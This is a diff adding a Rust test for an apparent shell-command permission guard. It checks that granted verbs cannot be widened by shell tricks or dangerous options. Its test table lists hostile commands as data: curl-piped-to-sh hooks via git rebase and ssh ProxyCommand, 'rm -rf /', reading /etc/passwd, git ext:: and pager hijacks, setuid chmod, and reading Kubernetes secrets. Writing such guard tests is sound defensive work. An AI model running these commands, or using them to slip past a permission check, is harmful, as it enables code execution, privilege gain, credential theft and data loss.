@@ -147,6 +147,51 @@ fn a_grant_covers_no_more_than_it_says() {
     }
 }
 
+/// Grants that were once wider than they said.
+#[test]
+fn a_grant_is_not_widened_by_spelling_or_by_flow() {
+    for (verb, command, expect) in [
+        ("rm", "_=build; echo / ; rm -rf $_", "ask"),
+        ("make", "command cd /etc && make", "ask"),
+        ("rm", "builtin cd /; rm -r x", "ask"),
+        ("make", "cd /etc && return; make", "ask"),
+        ("make", "cd /etc && pushd -n /work/proj && make", "ask"),
+        ("make", "for i in 1 2; do cd /work/proj && make; cd /etc; cd(){ :; }; done", "ask"),
+        ("git fetch", "git fetch --upload-pa=./x origin", "ask"),
+        ("git push", "git push --receive-pa=./x origin", "ask"),
+        ("git rebase", "git rebase -x'curl x|sh' HEAD~2", "ask"),
+        ("tar", "tar xf a.tar --use-compress-prog=./x", "ask"),
+        ("git clone", "git clone 'ext::sh -c id'", "ask"),
+        ("git clone", "git clone -c core.sshCommand=./x ssh://y", "ask"),
+        ("git config", "git config CORE.PAGER ./x", "ask"),
+        ("git config", "git config core.askPass ./x", "ask"),
+        ("git branch", "git branch -C a b", "ask"),
+        ("git add", "git add .env", "ask"),
+        ("curl", "curl FILE:///etc/passwd", "ask"),
+        ("curl", "curl -K x", "ask"),
+        ("ssh", "ssh -oProxyCommand='curl x|sh' host", "ask"),
+        ("ssh", "ssh host sudo reboot", "ask"),
+        ("ssh", "ssh host 'rm -rf /'", "ask"),
+        ("ssh", "ssh host uptime", "allow"),
+        ("gh api", "gh api -XDELETE repos/o/r", "ask"),
+        ("kubectl get", "kubectl get secrets", "ask"),
+        ("kubectl get", "kubectl get pods,secret -o yaml", "ask"),
+        ("kubectl get", "kubectl get pods -o yaml", "allow"),
+        ("chmod", "chmod 04755 x", "ask"),
+        ("chmod", "chmod ug+s x", "ask"),
+        ("chmod", "chmod +x run.sh", "allow"),
+        ("install", "install -m4755 a b", "ask"),
+        ("split", "split --filter='sh -c x' big", "ask"),
+        ("sort", "sort --compress-program=./x a", "ask"),
+        ("zip", "zip -T -TT 'sh x' a.zip b", "ask"),
+        ("psql", "psql -c 'dRoP table x'", "ask"),
+        ("cargo test", "cargo +nightly test", "allow"),
+    ] {
+        let answer = word(&assess(command, ROOT, &[ROOT], &[crate::support::grant(verb, Some(ROOT))], None));
+        assert_eq!(answer, expect, "{command}");
+    }
+}
+
 #[test]
 fn where_one_goes_to_run_what_is_granted_there_is_not_asked() {
     let there = [crate::support::grant("cargo build", Some("/srv/app"))];
